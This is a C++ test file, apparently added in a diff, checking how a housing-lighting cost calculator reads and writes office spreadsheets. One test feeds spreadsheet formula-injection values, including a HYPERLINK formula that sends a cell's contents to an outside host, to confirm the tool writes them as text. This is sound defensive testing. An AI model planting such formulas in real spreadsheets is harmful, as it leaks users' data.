@@ -1,0 +1,345 @@
+// virasvet-calc on spreadsheets as housing offices save them and as an attacker writes them:
+// each case is the file that showed a fault.
+
+#include "ProgramRun.h"
+
+#include <xlsxwriter.h>
+#include <zip.h>
+
+#include <algorithm>
+
+namespace {
+
+using namespace cli_test;
+
+// Result columns after File, Line and Address (no carried columns).
+constexpr std::size_t InstallCostPlanned = 9;
+constexpr std::size_t FittingCountPlanned = 13;
+constexpr std::size_t BlockCountPlanned = 15;
+
+class OfficeFiles : public ProgramRun {
+protected:
+    // The cells of the results' row for the house on `line` of the input.
+    std::vector<std::string> Row(const Outcome& run, std::size_t row, char delimiter = ';') {
+        const std::vector<std::string> lines = Lines(run.Out);
+        return row < lines.size() ? Cells(lines[row], delimiter) : std::vector<std::string>{};
+    }
+};
+
+TEST_F(OfficeFiles, RowsWithTheWrongNumberOfCellsAreRejected) {
+    // A decimal comma under ',' makes four cells of three columns; a truncated last line, two.
+    const Outcome comma =
+        Calc(File("comma.csv", "Address,BlockPrice,BlockInstallPrice\nr5,1,5,\n"));
+    EXPECT_EQ(comma.Status, 1);
+    EXPECT_NE(comma.Err.find("comma.csv:2: ячеек в строке: 4, столбцов в заголовке: 3 (при "
+                             "разделителе ',' число с десятичной запятой берётся в кавычки"),
+              std::string::npos)
+        << comma.Err;
+    const Outcome cut = Calc(File("cut.csv", "Address;Tariff;EntranceCount\na;1,5;4\nb;1,5\n"));
+    EXPECT_EQ(cut.Status, 1);
+    EXPECT_NE(cut.Err.find("cut.csv:3: ячеек в строке: 2, столбцов в заголовке: 3\n"),
+              std::string::npos)
+        << cut.Err;
+    EXPECT_EQ(Row(cut, 1, ';').size(), 25u);
+    EXPECT_EQ(Row(cut, 1)[3], "1");
+    EXPECT_EQ(Row(cut, 2)[3], ""); // no figures
+    EXPECT_NE(cut.Err.find("посчитано домов: 1, отклонено строк: 1"), std::string::npos);
+}
+
+TEST_F(OfficeFiles, QuotedDecimalCommasAndThousandsAreRead) {
+    // As LibreOffice saves a comma-delimited file in a Russian locale; blank, no-break space and
+    // narrow no-break space between thousands.
+    const Outcome run = Calc("--seed 7 " + File("ru.csv", "Address,Tariff,BlockPrice\n"
+                                                          "\"ул. Мира 1\",\"2,5\",\"1 250,00\"\n"
+                                                          "b,2.5,\"1\xC2\xA0"
+                                                          "250,00\"\n"
+                                                          "c,\"2,5\",1\xE2\x80\xAF"
+                                                          "250\n"
+                                                          "d,2.5,1\n"));
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    for (std::size_t row = 1; row <= 3; ++row) {
+        EXPECT_EQ(Row(run, row, ',')[InstallCostPlanned], "121500") << row; // 90 × (1250 + 100)
+    }
+    EXPECT_EQ(Row(run, 4, ',')[InstallCostPlanned], "9090");
+    // Groups must be of three digits.
+    const Outcome groups =
+        Calc(File("g.csv", "Address;BlockPrice\na;12 50\nb;1 2500\nc; 1 250 \n"));
+    EXPECT_EQ(groups.Status, 1);
+    EXPECT_NE(groups.Err.find("g.csv:2: BlockPrice: «12 50» — не число"), std::string::npos)
+        << groups.Err;
+    EXPECT_NE(groups.Err.find("g.csv:3: BlockPrice: «1 2500» — не число"), std::string::npos);
+    EXPECT_EQ(groups.Err.find("g.csv:4:"), std::string::npos);
+}
+
+TEST_F(OfficeFiles, ValuesNoHouseCanHaveAreRejectedWithTheirRange) {
+    const Outcome run = Calc(
+        File("bad.csv",
+             "Address;HoldTimeLanding;ExistingHoursLanding;PlannedHoursBetween;ExistingLampLife;"
+             "BlockPrice;PlannedPowerLanding;Tariff;EntranceCount;HasLift\n"
+             "a;-1;48;-13;-6;-0,5;-40;0;abc;2\n"
+             "b;60;13;24;6;1e308;40;1,38;5;1\n"
+             "c;60;13;24;6;350;1e308;1,38;5;1\n"
+             "d;0;0;0;0;0;0;0,01;1;0\n"));
+    EXPECT_EQ(run.Status, 1);
+    const std::string range = " — вне допустимых пределов ";
+    EXPECT_EQ(run.Err, "bad.csv:2: EntranceCount: «abc» — не число\n"
+                       "bad.csv:2: HasLift: «2» — ожидается 1 (да) или 0 (нет)\n"
+                       "bad.csv:2: Tariff: 0" +
+                           range +
+                           "(больше 0)\n"
+                           "bad.csv:2: ExistingLampLife: -6" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: ExistingHoursLanding: 48" +
+                           range +
+                           "(0..24)\n"
+                           "bad.csv:2: PlannedPowerLanding: -40" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: PlannedHoursBetween: -13" +
+                           range +
+                           "(0..24)\n"
+                           "bad.csv:2: BlockPrice: -0,5" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: HoldTimeLanding: -1" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:3: расчёт даёт бесконечные или неопределённые значения: цены, "
+                           "мощности или сроки службы слишком велики\n"
+                           "bad.csv:4: расчёт даёт бесконечные или неопределённые значения: цены, "
+                           "мощности или сроки службы слишком велики\n"
+                           "посчитано домов: 1, отклонено строк: 3\n");
+    EXPECT_EQ(run.Out.find("INF"), std::string::npos);
+    EXPECT_EQ(run.Out.find("NAN"), std::string::npos);
+    EXPECT_EQ(Row(run, 4).size(), 25u); // the house of zeros is calculated
+    EXPECT_NE(Row(run, 4)[4], "");
+}
+
+TEST_F(OfficeFiles, ALampCountOfZeroInAnySpellingSwitchesTheZoneOff) {
+    const Outcome run = Calc("--seed 7 " + File("z.csv", "Address;PlannedLampsLanding\n"
+                                                         "a;0\nb;00\nc;0,0\nd;-0\ne; 0.0 \nf;1\n"));
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    for (std::size_t row = 1; row <= 5; ++row) {
+        EXPECT_EQ(Row(run, row)[BlockCountPlanned], "45") << row;
+        EXPECT_EQ(Row(run, row)[FittingCountPlanned], "50") << row;
+    }
+    EXPECT_EQ(Row(run, 6)[BlockCountPlanned], "90");
+}
+
+TEST_F(OfficeFiles, AnInputIsNeverTheOutput) {
+    const std::string houses = "Address;Tariff\na;1,5\n";
+    File("houses.csv", houses);
+    fs::create_symlink("houses.csv", dir_ / "link.csv");
+    fs::create_hard_link(dir_ / "houses.csv", dir_ / "hard.csv");
+    for (const std::string output : {"houses.csv", "link.csv", "./hard.csv"}) {
+        const Outcome run = Calc("-o " + output + " other.csv houses.csv");
+        EXPECT_EQ(run.Status, 2) << output;
+        EXPECT_NE(run.Err.find("houses.csv: это исходный файл"), std::string::npos) << run.Err;
+        EXPECT_EQ(Read("houses.csv"), houses);
+    }
+}
+
+TEST_F(OfficeFiles, FailedWritesOfHelpVersionAndTemplateFail) {
+    for (const std::string option : {"--help", "--version", "--template"}) {
+        const Outcome full =
+            Shell(std::string("'") + VIRASVET_CALC + "' " + option + " >/dev/full 2>err.txt");
+        EXPECT_EQ(full.Status, 2) << option;
+        EXPECT_NE(full.Err.find("не удаётся записать результат"), std::string::npos) << full.Err;
+    }
+}
+
+TEST_F(OfficeFiles, TextThatASpreadsheetTakesForAFormulaIsWrittenAsText) {
+    const std::string hyperlink = "=HYPERLINK(\"\"http://x/?leak=\"\"&A1;\"\"клик\"\")";
+    const Outcome run = Calc("--seed 1 " + File("=2+2.csv", "Address;Note;Code\n"
+                                                            "=1+2;+cmd;-5\n\"" +
+                                                                hyperlink +
+                                                                "\";@SUM(A1);-1,5e3\n"
+                                                                "\"\tx\";-x;+7\n"
+                                                                "ул. Мира;=;\n"));
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    const std::vector<std::string> lines = Lines(run.Out);
+    ASSERT_EQ(lines.size(), 5u);
+    EXPECT_TRUE(lines[1].starts_with("'+cmd;-5;'=2+2.csv;2;'=1+2;1;")) << lines[1];
+    EXPECT_TRUE(lines[2].starts_with("'@SUM(A1);-1,5e3;'=2+2.csv;3;\"'=HYPERLINK(")) << lines[2];
+    EXPECT_TRUE(lines[3].starts_with("'-x;+7;'=2+2.csv;4;'\tx;1;")) << lines[3];
+    EXPECT_TRUE(lines[4].starts_with("'=;;'=2+2.csv;5;ул. Мира;1;")) << lines[4];
+}
+
+TEST_F(OfficeFiles, ColumnsThatAreNoFieldAreCarried) {
+    const Outcome run = Calc("--seed 7 " + File("c.csv", "№;Address;Примечание;Tariff;ID\n"
+                                                         "1;a;без лифта;1,38;00017\n"
+                                                         "2;b;;1,38;\n"));
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    EXPECT_TRUE(Lines(run.Out)[0].starts_with("\xEF\xBB\xBF№;Примечание;ID;File;Line;Address;"))
+        << run.Out;
+    EXPECT_TRUE(Lines(run.Out)[1].starts_with("1;без лифта;00017;c.csv;2;a;1;")) << run.Out;
+    EXPECT_TRUE(Lines(run.Out)[2].starts_with("2;;;c.csv;3;b;1;")) << run.Out;
+    EXPECT_EQ(Row(run, 1).size(), 28u);
+
+    // A name one or two letters from a field's stops the run, naming the field.
+    for (const std::string name : {"Adress", "Entrance Cont", "TARIF_", "Floor_Cnt"}) {
+        const Outcome typo = Calc(File("t.csv", name + ";Address\n1;x\n"));
+        EXPECT_EQ(typo.Status, 2) << name;
+        EXPECT_NE(typo.Err.find("нет такого столбца; может быть, "), std::string::npos) << typo.Err;
+    }
+    const Outcome spaced = Calc(File("s.csv", "entrance cont;Address\n1;x\n"));
+    EXPECT_NE(spaced.Err.find("s.csv:1: entrance cont: нет такого столбца; может быть, "
+                              "EntranceCount?"),
+              std::string::npos)
+        << spaced.Err;
+    // Case, blanks and underscores aside, a field's name is the field.
+    const Outcome loose = Calc(File("l.csv", "entrance_count;Address\n4;x\n"));
+    EXPECT_EQ(loose.Status, 0) << loose.Err;
+}
+
+TEST_F(OfficeFiles, WindowsCyrillicIsReadAndResultsCarryAByteOrderMark) {
+    // "Гагарина 5" in Windows-1251, as Excel saves CSV on a Russian desktop.
+    const std::string cyrillic = "\xC3\xE0\xE3\xE0\xF0\xE8\xED\xE0 5";
+    File("w.csv", "Address;Tariff\n" + cyrillic + ";1,5\n");
+    const Outcome run = Calc("--seed 1 w.csv");
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    EXPECT_EQ(run.Err, "w.csv: текст не в UTF-8, прочитан как Windows-1251 (кодировку задаёт "
+                       "--encoding)\n");
+    EXPECT_TRUE(run.Out.starts_with("\xEF\xBB\xBF"
+                                    "File;Line;Address;"))
+        << run.Out;
+    EXPECT_TRUE(Lines(run.Out)[1].starts_with("w.csv;2;Гагарина 5;1;")) << run.Out;
+    EXPECT_EQ(Calc("--encoding utf-8 w.csv").Status, 2);
+    EXPECT_EQ(Calc("--encoding cp866 w.csv").Status, 2);
+    // UTF-8 text read as Windows-1251 when told so.
+    const Outcome forced =
+        Calc("--no-bom --encoding windows-1251 " + File("u.csv", "Address\nМир\n"));
+    ASSERT_EQ(forced.Status, 0);
+    EXPECT_TRUE(Lines(forced.Out)[1].starts_with("u.csv,2,РњРёСЂ,")) << forced.Out;
+    EXPECT_TRUE(Lines(forced.Out)[0].starts_with("File,")); // no byte-order mark
+    EXPECT_TRUE(Calc("--template")
+                    .Out.starts_with("\xEF\xBB\xBF"
+                                     "Address;"));
+    EXPECT_TRUE(Calc("--template --no-bom").Out.starts_with("Address;"));
+}
+
+TEST_F(OfficeFiles, RowMessagesAreCappedAndCounted) {
+    std::string houses = "Address;Tariff\n";
+    for (int i = 0; i < 150; ++i) {
+        houses += "h;0\n";
+    }
+    houses += "ok;1\n";
+    File("many.csv", houses);
+    const Outcome run = Calc("many.csv");
+    EXPECT_EQ(run.Status, 1);
+    std::vector<std::string> lines = Lines(run.Err);
+    ASSERT_EQ(lines.size(), 102u);
+    EXPECT_EQ(lines[99], "many.csv:101: Tariff: 0 — вне допустимых пределов (больше 0)");
+    EXPECT_EQ(lines[100], "… и ещё сообщений об ошибках в строках: 50 (показывать больше: "
+                          "--max-errors)");
+    EXPECT_EQ(lines[101], "посчитано домов: 1, отклонено строк: 150");
+    EXPECT_EQ(Lines(Calc("--max-errors 2 many.csv").Err).size(), 4u);
+    EXPECT_EQ(Lines(Calc("--max-errors 0 many.csv").Err).size(), 2u);
+    EXPECT_EQ(Calc("--max-errors x many.csv").Status, 2);
+
+    // A header of many misspelt columns, likewise.
+    std::string header = "Address";
+    for (int i = 0; i < 1000; ++i) {
+        header += ";Tarif";
+    }
+    const Outcome wide = Calc(File("wide.csv", header + "\n"));
+    EXPECT_EQ(wide.Status, 2);
+    lines = Lines(wide.Err);
+    ASSERT_EQ(lines.size(), 101u);
+    EXPECT_EQ(lines[100], "… и ещё сообщений об ошибках в строках: 900 (показывать больше: "
+                          "--max-errors)");
+}
+
+// The sheet of a workbook as its zip part holds it.
+std::string WorkbookPart(const std::string& path, const std::string& part) {
+    int error = 0;
+    zip_t* archive = zip_open(path.c_str(), ZIP_RDONLY, &error);
+    if (archive == nullptr) {
+        return {};
+    }
+    std::string text;
+    if (zip_file_t* file = zip_fopen(archive, part.c_str(), 0)) {
+        char buffer[4096];
+        for (zip_int64_t count; (count = zip_fread(file, buffer, sizeof buffer)) > 0;) {
+            text.append(buffer, static_cast<std::size_t>(count));
+        }
+        zip_fclose(file);
+    }
+    zip_discard(archive);
+    return text;
+}
+
+TEST_F(OfficeFiles, WorkbooksAreReadAndWritten) {
+    // A workbook as an office saves it: strings shared, numbers as numbers, a decimal comma in a
+    // text cell, a carried column, rows with gaps.
+    const std::string input = (dir_ / "houses.xlsx").string();
+    lxw_workbook* book = workbook_new(input.c_str());
+    lxw_worksheet* sheet = workbook_add_worksheet(book, "Дома");
+    const std::vector<std::string> header = {"Address", "№", "Tariff", "BlockPrice"};
+    for (std::size_t i = 0; i < header.size(); ++i) {
+        worksheet_write_string(sheet, 1, static_cast<lxw_col_t>(i), header[i].c_str(), nullptr);
+    }
+    worksheet_write_string(sheet, 2, 0, "=1+2", nullptr);
+    worksheet_write_number(sheet, 2, 1, 17, nullptr);
+    worksheet_write_number(sheet, 2, 2, 2.5, nullptr);
+    worksheet_write_number(sheet, 2, 3, 1250, nullptr);
+    worksheet_write_string(sheet, 4, 0, "ул. Мира", nullptr);
+    worksheet_write_string(sheet, 4, 2, "2,5", nullptr);
+    worksheet_write_number(sheet, 4, 3, 1, nullptr);
+    ASSERT_EQ(workbook_close(book), LXW_NO_ERROR);
+
+    const Outcome run = Calc("--seed 7 --no-bom houses.xlsx");
+    ASSERT_EQ(run.Status, 0) << run.Err;
+    const std::vector<std::string> lines = Lines(run.Out);
+    ASSERT_EQ(lines.size(), 3u) << run.Out;
+    EXPECT_TRUE(lines[1].starts_with("17;houses.xlsx;3;'=1+2;1;")) << lines[1];
+    EXPECT_TRUE(lines[2].starts_with(";houses.xlsx;5;ул. Мира;1;")) << lines[2];
+    EXPECT_EQ(Cells(lines[1], ';')[1 + InstallCostPlanned], "121500");
+    EXPECT_EQ(Cells(lines[2], ';')[1 + InstallCostPlanned], "9090");
+
+    // Results as a workbook: the same rows, numbers as numbers, text as text, a frozen header.
+    const Outcome written = Calc("--seed 7 -o results.xlsx houses.xlsx");
+    ASSERT_EQ(written.Status, 0) << written.Err;
+    const std::string results =
+        WorkbookPart((dir_ / "results.xlsx").string(), "xl/worksheets/sheet1.xml");
+    EXPECT_NE(results.find("<pane ySplit=\"1\""), std::string::npos);
+    EXPECT_NE(results.find("<c r=\"K2\"><v>121500</v></c>"), std::string::npos) << results;
+    EXPECT_NE(results.find("<c r=\"G3\"><v>2.3</v></c>"), std::string::npos); // payback months
+    EXPECT_NE(results.find("<c r=\"D2\" t=\"inlineStr\"><is><t>=1+2</t>"), std::string::npos);
+    const Outcome back = Calc("--seed 7 --no-bom results.xlsx");
+    EXPECT_EQ(back.Status, 0) << back.Err;
+    EXPECT_TRUE(Lines(back.Out)[1].starts_with("17;houses.xlsx;3;1;")) << back.Out;
+
+    // A file that is no workbook, and one whose output would replace its input.
+    File("broken.xlsx", "PK\x03\x04 no archive");
+    const Outcome broken = Calc("broken.xlsx");
+    EXPECT_EQ(broken.Status, 2);
+    EXPECT_NE(broken.Err.find("broken.xlsx: не удаётся открыть книгу .xlsx"), std::string::npos)
+        << broken.Err;
+}
+
+TEST_F(OfficeFiles, MemoryStaysBoundedWhateverTheFileSize) {
+#if defined(__SANITIZE_ADDRESS__)
+    GTEST_SKIP() << "the sanitizers' shadow memory is no measure of the program's";
+#else
+    // 400,000 rows from a pipe: the program held about a kilobyte a row before it streamed.
+    const Outcome run =
+        Shell("(echo 'Address;Tariff'; yes 'x;0' | head -n 400000) | '" +
+              std::string(VIRASVET_CALC) + "' --max-errors 0 --jobs 2 - >/dev/null 2>err.txt");
+    EXPECT_EQ(run.Status, 1);
+    EXPECT_NE(run.Err.find("посчитано домов: 0, отклонено строк: 400000\n"), std::string::npos)
+        << run.Err;
+    rusage usage{};
+    ASSERT_EQ(::getrusage(RUSAGE_CHILDREN, &usage), 0);
+    EXPECT_LT(usage.ru_maxrss, 100 * 1024) << "peak resident kilobytes";
+    // Nor does a record that never ends grow: it is refused past its limit.
+    const Outcome endless = Shell("(printf 'Address\\n\"'; yes 'x') | '" +
+                                  std::string(VIRASVET_CALC) + "' - >/dev/null 2>err.txt");
+    EXPECT_EQ(endless.Status, 2);
+    EXPECT_NE(endless.Err.find("-: строка 2: запись длиннее 1 МБ"), std::string::npos)
+        << endless.Err;
+#endif
+}
+
+} // namespace
